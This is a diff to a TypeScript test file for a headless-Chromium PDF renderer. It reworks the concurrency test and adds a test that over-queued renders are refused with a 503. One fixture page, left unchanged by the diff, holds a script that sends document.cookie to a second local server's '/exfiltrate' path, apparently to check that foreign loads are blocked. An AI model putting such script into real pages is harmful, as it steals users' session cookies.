@@ -1,11 +1,11 @@
 // The PDF renderer with the real headless Chromium, printing pages of a small local server
 // that stands in for the web server: what it waits for, what it refuses to load, how many it
 // prints at once, its deadline, and the binary it needs.
-import { createServer, type Server } from 'node:http';
+import { createServer, type Server, type ServerResponse } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { NO_CHROMIUM, PdfExportError, resolveChromium } from './chromium.ts';
-import { closePdfBrowser, MAX_PARALLEL_RENDERS, renderPdf } from './pdf.ts';
+import { closePdfBrowser, MAX_PARALLEL_RENDERS, MAX_WAITING_RENDERS, renderPdf } from './pdf.ts';
 
 /** The PDF's text as a reader extracts it. */
 async function pdfText(pdf: Buffer): Promise<string> {
@@ -28,8 +28,10 @@ let own: { server: Server; origin: string };
 let elsewhere: { server: Server; origin: string };
 const elsewhereHits: string[] = [];
 const cookies: string[] = [];
-let inFlight = 0;
-let maxInFlight = 0;
+/** /slow responses not yet sent: the renders that are printing right now. */
+const held: ServerResponse[] = [];
+let maxHeld = 0;
+const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
 
 beforeAll(async () => {
   elsewhere = await listen((req, res) => {
@@ -46,13 +48,9 @@ beforeAll(async () => {
         <script>fetch('${elsewhere.origin}/exfiltrate?c=' + document.cookie).catch(() => {});
         setTimeout(() => { document.getElementById('t').textContent = 'finished'; document.body.setAttribute('data-report-ready', ''); }, 300);</script></body>`);
     } else if (url.pathname === '/slow') {
-      // Holds its response, so concurrent renders overlap here and can be counted.
-      inFlight++;
-      maxInFlight = Math.max(maxInFlight, inFlight);
-      setTimeout(() => {
-        inFlight--;
-        res.end('<body data-report-ready>slow</body>');
-      }, 400);
+      // Held until the test lets it go, so the renders in progress can be counted.
+      held.push(res);
+      maxHeld = Math.max(maxHeld, held.length);
     } else if (url.pathname === '/failed') {
       res.end('<body data-report-error="Team not found">x</body>');
     } else {
@@ -81,9 +79,30 @@ describe('renderPdf in headless Chromium', () => {
   }, 60_000);
 
   it(`prints at most ${MAX_PARALLEL_RENDERS} at a time and queues the rest`, async () => {
-    const renders = await Promise.all(Array.from({ length: 5 }, () => renderPdf({ path: '/slow', cookie: '', ...TEMPLATES })));
-    expect(renders.every((r) => r.subarray(0, 4).toString('latin1') === '%PDF')).toBe(true);
-    expect(maxInFlight).toBe(MAX_PARALLEL_RENDERS);
+    const renders = Promise.all(Array.from({ length: 5 }, () => renderPdf({ path: '/slow', cookie: '', ...TEMPLATES })));
+    for (let waited = 0; held.length < MAX_PARALLEL_RENDERS && waited < 20_000; waited += 50) await sleep(50);
+    // Two pages are loading; the other three wait their turn rather than open a third.
+    await sleep(1_000);
+    expect(held.length).toBe(MAX_PARALLEL_RENDERS);
+    const release = setInterval(() => {
+      for (const res of held.splice(0)) res.end('<body data-report-ready>slow</body>');
+    }, 50);
+    try {
+      expect((await renders).every((r) => r.subarray(0, 4).toString('latin1') === '%PDF')).toBe(true);
+    } finally {
+      clearInterval(release);
+    }
+    expect(maxHeld).toBe(MAX_PARALLEL_RENDERS);
+  }, 60_000);
+
+  it(`refuses at once, with a 503, a render beyond ${MAX_WAITING_RENDERS} waiting`, async () => {
+    const total = MAX_PARALLEL_RENDERS + MAX_WAITING_RENDERS + 1;
+    const outcomes = await Promise.allSettled(
+      Array.from({ length: total }, () => renderPdf({ path: '/never', cookie: '', ...TEMPLATES, timeoutMs: 2_000 })),
+    );
+    const statuses = outcomes.map((o) => (o.status === 'rejected' ? (o.reason as PdfExportError).status : 200));
+    expect(statuses.filter((s) => s === 503)).toHaveLength(1);
+    expect(statuses.filter((s) => s === 504)).toHaveLength(total - 1);
   }, 60_000);
 
   it('gives up at its deadline with a 504 when the page never gets ready', async () => {
@@ -130,6 +149,6 @@ describe('the Chromium binary', () => {
     } finally {
       delete process.env.PARALLAX_CHROMIUM;
     }
-    expect((await renderPdf({ path: '/slow', cookie: '', ...TEMPLATES })).subarray(0, 4).toString('latin1')).toBe('%PDF');
+    expect((await renderPdf({ path: '/ready', cookie: '', ...TEMPLATES })).subarray(0, 4).toString('latin1')).toBe('%PDF');
   }, 60_000);
 });
